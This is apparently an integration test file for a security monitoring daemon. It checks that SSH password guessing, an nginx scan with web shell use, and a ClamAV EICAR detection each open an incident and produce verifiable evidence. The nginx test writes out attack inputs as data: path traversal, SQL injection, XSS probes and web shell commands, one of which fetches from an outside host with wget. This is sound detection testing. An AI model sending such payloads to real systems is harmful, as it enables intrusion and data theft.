"""The real thing attacked: sshd, nginx and ClamAV, whose own words must open candidates and fill a notification."""

import json
import pathlib
import subprocess

from harness import as_bytes, check, equal, wait_until
from real import Clamd, DevLog, Nginx, Sshd


def candidate(daemon, wanted, seconds=30):
    """The first incident for which `wanted` is true."""
    def found():
        for incident in daemon.incidents():
            if wanted(incident):
                return incident
        return None
    return wait_until(found, seconds * daemon.build.slow,
                      f"a candidate; have {[(i['title'], i['entities']) for i in daemon.incidents()]}")


def has_entity(incident, value):
    return any(entity["value"] == value for entity in incident["entities"])


def test_sshd_guessed_until_a_login_succeeds(test):
    """24 wrong passwords and then a login: failures and success are read as logons, and one candidate opens."""
    with test.daemon() as daemon:
        devlog = DevLog(test, daemon.syslog_port)
        try:
            sshd = Sshd(test, devlog)
            for _ in range(4):
                sshd.guess_passwords("admin")
                sshd.guess_passwords(sshd.user)
            sshd.log_in()
            wait_until(lambda: daemon.search("event.outcome:success AND event.category:authentication"),
                       20 * test.build.slow, "the successful login")
        finally:
            devlog.close()
        daemon.wait_quiet()
        failures = daemon.search("event.outcome:failure AND event.category:authentication")
        equal(len([e for e in failures if e["event"]["original"].count("Failed password")]), 24, "failed passwords")
        for event in failures:
            equal(event["source"]["ip"], "127.0.0.1", "source.ip of a failure")
        equal({e["user"]["name"] for e in failures}, {"admin", sshd.user}, "users of failures")
        login = daemon.search("event.outcome:success AND event.category:authentication")[0]
        equal((login["user"]["name"], login["source"]["ip"]), (sshd.user, "127.0.0.1"), "the login")
        check({"os", "logon"} <= set(login["vigil"]["kinds"]), "kinds of a login:", login["vigil"]["kinds"])
        # The attacker's address is this machine's own here, which links nothing; the account does.
        incident = candidate(daemon, lambda i: has_entity(i, sshd.user))
        equal((incident["state"], incident["category"]), ("candidate", "intrusion"), "state and category")
        equal(len(daemon.incidents()), 1, "candidates for one attack")
        check(incident["detections"], "a candidate without detections")


def test_nginx_scanned_and_attacked(test):
    """A scan, an upload, a web shell: a candidate of category web_attack with a drafted notification."""
    with test.daemon() as daemon:
        nginx = Nginx(test, daemon.syslog_port)
        for path in ("/", "/index.html"):
            equal(nginx.curl(path), 200, path)
        probes = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/backup.zip", "/admin/config.php",
                  "/index.php?page=../../../../etc/passwd", "/news.php?id=1%27%20UNION%20SELECT%201,2,3--%20-",
                  "/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E", "/server-status"]
        for number in range(40):
            nginx.curl(probes[number % len(probes)], "-A", "Mozilla/5.00 (Nikto/2.1.6)")
        equal(nginx.curl("/upload.php", "-d", "file=x"), 200, "upload")
        for command in ("id", "cat%20/etc/passwd", "wget%20http://198.51.100.77/x"):
            equal(nginx.curl(f"/uploads/shell.php?cmd={command}"), 200, "web shell")
        daemon.wait_stored(46)
        daemon.wait_quiet()
        equal(len(daemon.search("http.response.status_code:404")), 40, "404 answers")
        shell = daemon.search('url.path:"/uploads/shell.php"')
        equal(len(shell), 3, "requests to the shell")
        check("web" in shell[0]["vigil"]["kinds"], "kinds:", shell[0]["vigil"]["kinds"])
        incident = candidate(daemon, lambda i: i["category"] == "web_attack")
        check_notification(daemon, incident)


def test_clamav_finds_eicar(test):
    """clamd finds the EICAR test file and says so by syslog: a candidate opens."""
    with test.daemon() as daemon:
        devlog = DevLog(test, daemon.syslog_port)
        try:
            clamd = Clamd(test, devlog)
            infected = test.directory / "eicar.com"
            infected.write_text(clamd.EICAR)
            check("FOUND" in clamd.scan(infected), "clamd did not find EICAR")
            check(clamd.scan("/etc/hostname").endswith("OK"), "clamd found something in /etc/hostname")
            wait_until(lambda: daemon.search("Eicar*"), 20 * test.build.slow, "ClamAV's line")
        finally:
            devlog.close()
        daemon.wait_quiet()
        found = [e for e in daemon.search("Eicar*") if "FOUND" in e["event"]["original"]]
        equal(len(found), 1, "lines that say FOUND")
        equal(found[0]["event"]["kind"], "alert", "event.kind")
        check("Eicar-Test-Signature" in found[0]["rule"]["name"], "rule.name:", found[0]["rule"])
        candidate(daemon, lambda i: any("clam" in json.dumps(d).lower() or "eicar" in json.dumps(d).lower() or
                                        "malware" in json.dumps(d).lower() for d in i["detections"]))


def check_notification(daemon, incident):
    """The drafted form and the evidence bundle of an incident hold together."""
    def drafted():
        for notification in daemon.json("/api/v1/notifications")["notifications"]:
            if notification["incident"] == incident["id"] and notification.get("bundle"):
                return notification
        return None
    notification = wait_until(drafted, 30 * daemon.build.slow, "the drafted notification with its bundle")
    status, form = daemon.get(f"/api/v1/notifications/{notification['id']}/form?format=html")
    equal(status, 200, "form")
    check(b"<html" in form and "甲國小".encode() in form, "the form does not name the organisation")
    check(b"<script" not in form, "a script in the form")
    fields = daemon.json(f"/api/v1/notifications/{notification['id']}/form?format=json")
    check(fields, "an empty form")

    made = daemon.request("POST", "/api/v1/evidence", json.dumps({"incident": incident["id"]}),
                          {"Content-Type": "application/json"})
    equal(made[0], 200, f"evidence {made[1][:300]!r}")
    bundle = pathlib.Path(json.loads(made[1])["path"])
    verify_bundle(daemon, bundle)
    # A change of one byte is found by the bag's own script and by ours.
    segment = next(path for path in sorted((bundle / "data" / "segments").iterdir()))
    segment.chmod(0o644)
    content = bytearray(segment.read_bytes())
    content[len(content) // 2] ^= 1
    segment.write_bytes(content)
    check(run_verify_script(bundle).returncode != 0, "verify.sh accepted a changed segment")
    equal(daemon.cli("evidence", "verify", bundle, expect=None).returncode, 1, "vigil evidence verify of a changed bag")


def run_verify_script(bundle):
    """The bag's own check as a third party would run it: nothing but sh and coreutils."""
    return subprocess.run(["env", "-i", "PATH=/usr/bin:/bin", "sh", "verify.sh"], cwd=bundle, capture_output=True,
                          timeout=120, check=False)


def verify_bundle(daemon, bundle):
    done = run_verify_script(bundle)
    check(done.returncode == 0, "verify.sh:", done.stdout[-400:], done.stderr[-400:])
    daemon.cli("evidence", "verify", bundle)
    raw = b"".join(path.read_bytes() for path in sorted((bundle / "data" / "segments").iterdir()))
    cited = {message for message in daemon.messages() if as_bytes(message) in raw}
    check(cited, "the bundle holds none of the lines that are stored")
